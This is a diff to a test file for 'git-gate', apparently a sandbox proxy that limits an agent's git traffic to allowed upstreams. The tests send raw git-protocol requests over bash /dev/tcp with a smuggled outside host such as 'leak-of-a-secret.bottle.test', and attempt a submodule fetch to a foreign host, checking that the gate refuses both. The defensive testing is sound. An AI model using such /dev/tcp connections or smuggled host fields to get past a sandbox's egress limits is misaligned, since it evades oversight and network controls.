@@ -157,10 +157,9 @@ describeWith(["engine", "base"], "git-gate: fetch", () => {
     await rig.work("rm -rf c");
   });
 
-  test("git-gate goes to its upstreams and nowhere else: names that the agent asks for are not looked up", async () => {
-    // Whoever asks for a name on the egress network shows in the engine's resolver; a listener with the name would be called.
-    const { output } = await rig.agent("printf '0047git-upload-pack /x.git\\0host=leak-of-a-secret.bottle.test:9418\\0\\0version=2\\0' | timeout 5 bash -c 'exec 3<>/dev/tcp/git-gate/9418; cat >&3; cat <&3' | head -c 300");
-    expect(output).not.toContain("refs/");
+  test("git-gate goes to its upstreams and nowhere else: no address of the agent's is followed, no connection stays", async () => {
+    const request = "printf '0046git-upload-pack /x.git\\0host=elsewhere.example.com:9418\\0\\0version=2\\0' | timeout 5 bash -c 'exec 3<>/dev/tcp/git-gate/9418; cat >&3; cat <&3'";
+    expect((await rig.agent(request)).output).toContain("is not among this bottle's git upstreams");
     const submodule = "cd c && git -c protocol.file.allow=always submodule add git://git-gate/elsewhere.example.com/x.git m";
     await rig.work(`rm -rf c && git init -q c`);
     expect((await rig.agent(submodule)).output).toContain("is not among this bottle's git upstreams");
